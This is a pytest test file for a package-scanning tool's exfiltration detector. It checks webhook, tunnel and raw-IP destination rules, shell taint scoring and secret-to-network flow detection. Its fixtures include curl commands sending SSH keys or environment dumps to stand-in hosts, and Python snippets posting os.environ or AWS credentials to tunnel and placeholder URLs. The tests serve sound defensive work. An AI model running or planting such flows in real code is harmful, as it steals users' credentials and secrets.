"""Exfiltration helpers: destinations, shell substitutions, token shapes, and secret→send flows."""

from __future__ import annotations

from pathlib import Path

import pytest

from douane.analysis import exfiltration as ex
from douane.analysis import indicators as ind
from douane.analysis.engine import analyse
from douane.archive import Opened
from douane.domain import Artifact, ArtifactKind, Member, Severity

H = ex.HOLE


def scan(source: str, path: str = "pkg/mod.py", rule: str = "DOU511"):
    data = source.encode()
    opened = Opened(ArtifactKind.SDIST, "folder", (Member(path, data, len(data)),), (), "")
    found = analyse(Artifact(path=Path(path), filename="x.tar.gz"), opened).findings
    return [f for f in found if f.rule == rule]


@pytest.mark.parametrize(
    ("text", "kind", "fixed"),
    [
        ("https://discord.com/api/webhooks/1/tok", ind.WEBHOOK, True),
        (f"https://discord.com/api/webhooks/{H}", ind.WEBHOOK, False),  # secret from config
        (f"https://api.telegram.org/bot{H}/sendMessage", ind.WEBHOOK, False),
        (f"https://{H}.abc.oast.fun", ind.TUNNEL, True),  # data in the host name
        (f"https://{H}/upload", None, False),
        ("http://localhost:8000/x", None, False),
        ("https://collect.example.invalid/x", None, True),
    ],
)
def test_destination(text, kind, fixed):
    got_kind, _host, got_fixed, _ = ex.destination(text)
    assert (got_kind, got_fixed) == (kind, fixed)


def test_command_taint_reads_substitutions():
    assert ex.command_taint("curl -d $(whoami) https://x.example.invalid").level == ex.FINGERPRINT
    assert ex.command_taint("curl -F f=@/home/u/.ssh/id_rsa https://x").level == ex.STRONG
    assert ex.command_taint("env | curl -d @- https://x").level == ex.STRONG
    assert ex.command_taint("curl https://x.example.invalid/install.sh") is None


def test_token_regex_shapes():
    assert ex._token_regex(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")
    assert ex._token_regex(r"dQw4w9WgXcQ:[^\"]*")
    assert not ex._token_regex(r"[a-f0-9]{32}")


def test_env_dump_to_tunnel_is_critical():
    src = (
        "import os, requests\n"
        "def f():\n"
        "    data = {k: v for k, v in os.environ.items()}\n"
        "    requests.post('https://a1.ngrok-free.app/c', json=data)\n"
    )
    (hit,) = scan(src)
    assert hit.severity is Severity.CRITICAL and hit.line == 4


def test_flow_through_function_returning_secret():
    """Regression: a secret gathered in one function and posted from another is still a flow."""
    src = (
        "import os, requests\n"
        "def grab():\n"
        "    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "def main():\n"
        "    requests.post('https://collect.example.invalid/x', data=grab())\n"
    )
    (hit,) = scan(src)
    assert hit.severity is Severity.HIGH and "AWS credentials" in hit.message


def test_signed_transaction_is_not_a_key_leak():
    """Regression: a key used to sign, with only the signature sent to a fixed RPC host."""
    src = (
        "import requests\n"
        "def pay(account, private_key):\n"
        "    signed = account.sign_transaction({'to': 'x'}, private_key)\n"
        "    requests.post('https://rpc.fixture.example.invalid', json={'raw': signed})\n"
    )
    assert scan(src) == []


def test_named_secret_only_counts_for_drop_destinations():
    own = "import os, requests\nrequests.post('https://api.svc.example.invalid', json={'k': os.getenv('SVC_API_KEY')})\n"
    drop = own.replace("api.svc.example.invalid", "eo1.m.pipedream.net")
    assert scan(own) == []
    assert [f.severity for f in scan(drop)] == [Severity.HIGH]


def test_where_of_flow_in_function_is_function():
    src = "import os, requests\ndef f():\n    requests.post('http://192.0.2.1/x', data=str(os.environ))\n"
    (hit,) = scan(src)
    assert str(hit.where) == "function"


def test_unparseable_or_empty_source_gives_no_hit():
    assert scan("def (:\n") == []
    assert scan("") == []


def test_fold_reads_format_percent_and_base64():
    import ast

    def f(src: str, consts: dict | None = None) -> str | None:
        return ex.fold(ast.parse(src, mode="eval").body, consts or {})

    assert (
        f("'https://{}/x'.format(H)", {"H": "a.example.invalid"}) == "https://a.example.invalid/x"
    )
    assert f("'http://%s:%s' % (H, '80')", {"H": "h"}) == "http://h:80"
    assert f("base64.b64decode('aHR0cHM6Ly94').decode()") == "https://x"
    assert f("base64.b64decode(V)") is None  # not a constant


def test_socket_send_to_raw_ip_is_a_send():
    src = (
        "import socket\n"
        "def f(d):\n"
        "    s = socket.socket()\n"
        "    s.connect(('203.0.113.9', 9000))\n"
        "    s.send(d)\n"
    )
    (hit,) = scan(src, rule="DOU510")
    assert hit.line == 5 and "raw IP" in hit.message


def test_loopback_socket_is_not_a_fixed_destination():
    src = "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9000))\ns.send(b'x')\n"
    assert scan(src, rule="DOU510") == []


def test_public_resolver_is_not_a_drop_destination():
    """Regression: `s.connect(("8.8.8.8", 80))` to learn the local address is no raw-IP drop."""
    assert ex.destination("http://8.8.8.8/x")[0] is None
    assert ex.destination("http://203.0.113.5/x")[0] == ind.RAW_IP


def test_address_sent_to_geoip_service_is_not_a_leak():
    """Regression: an IP enrichment tool posts addresses to a geo-IP API by design."""
    src = (
        "import requests\n"
        "def enrich():\n"
        "    ip = requests.get('https://api.ipify.org').text\n"
        "    requests.post('http://ip-api.com/batch', json=[ip])\n"
    )
    assert scan(src) == []
